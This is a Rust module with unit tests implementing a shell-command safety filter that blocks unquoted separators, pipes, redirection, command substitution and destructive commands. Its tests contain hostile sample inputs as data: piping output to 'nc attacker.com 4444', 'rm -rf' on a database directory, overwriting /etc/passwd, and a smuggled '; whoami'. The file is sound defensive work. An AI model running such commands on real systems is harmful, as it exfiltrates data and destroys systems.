//! Shell-safety filter: rejects commands containing shell metacharacters or
//! destructive sub-commands outside of quoted SQL text.

use regex::Regex;
use std::sync::LazyLock;

static QUOTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"'[^']*'|"[^"]*""#).unwrap());

/// Dangerous-outside-quotes patterns, checked in order so the first match
/// names the reason.
static DANGEROUS_PATTERNS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        r"\|",
        r"&&",
        r"\|\|",
        r">",
        r">>",
        r"\$\(.*\)",
        r"`.*`",
        r"\brm\s+-rf\b",
        r"\bshutdown\b",
        r"\breboot\b",
        r"\bmkfs\b",
        r"\bdd\b",
    ]
    .iter()
    .map(|p| (*p, Regex::new(p).unwrap()))
    .collect()
});

/// Replaces quoted spans with a harmless placeholder so legitimate SQL
/// literals (`'SELECT 1; DROP TABLE x'`) don't trip the outer checks.
pub fn strip_quoted(text: &str) -> String {
    QUOTED.replace_all(text, "''").into_owned()
}

/// True if `command` contains no unquoted shell separator or destructive
/// pattern.
pub fn is_safe(command: &str) -> bool {
    let cleaned = strip_quoted(command);

    if cleaned.contains(';') {
        return false;
    }

    !DANGEROUS_PATTERNS.iter().any(|(_, re)| re.is_match(&cleaned))
}

/// Human-readable reason a command was rejected; call only after `is_safe`
/// returned false.
pub fn get_unsafe_reason(command: &str) -> String {
    let cleaned = strip_quoted(command);

    if cleaned.contains(';') {
        return "shell separator ';' detected outside quotes".to_string();
    }

    for (pattern, re) in DANGEROUS_PATTERNS.iter() {
        if re.is_match(&cleaned) {
            return format!("unsafe pattern detected: {pattern}");
        }
    }

    "unknown safety violation".to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_semicolon_is_safe() {
        assert!(is_safe("psql -c 'SELECT 1;'"));
    }

    #[test]
    fn unquoted_semicolon_is_unsafe() {
        assert!(!is_safe("psql -c 'SELECT 1;' ; whoami"));
        assert_eq!(
            get_unsafe_reason("psql -c 'SELECT 1;' ; whoami"),
            "shell separator ';' detected outside quotes"
        );
    }

    #[test]
    fn pipe_is_unsafe() {
        assert!(!is_safe("psql -c 'SELECT 1' | nc attacker.com 4444"));
    }

    #[test]
    fn command_substitution_is_unsafe() {
        assert!(!is_safe("psql -c \"$(whoami)\""));
    }

    #[test]
    fn rm_rf_is_unsafe() {
        assert!(!is_safe("rm -rf /var/lib/postgresql"));
    }

    #[test]
    fn plain_command_is_safe() {
        assert!(is_safe("pg_isready -h localhost"));
    }

    #[test]
    fn redirection_is_unsafe() {
        assert!(!is_safe("psql -c 'SELECT 1' > /etc/passwd"));
    }
}
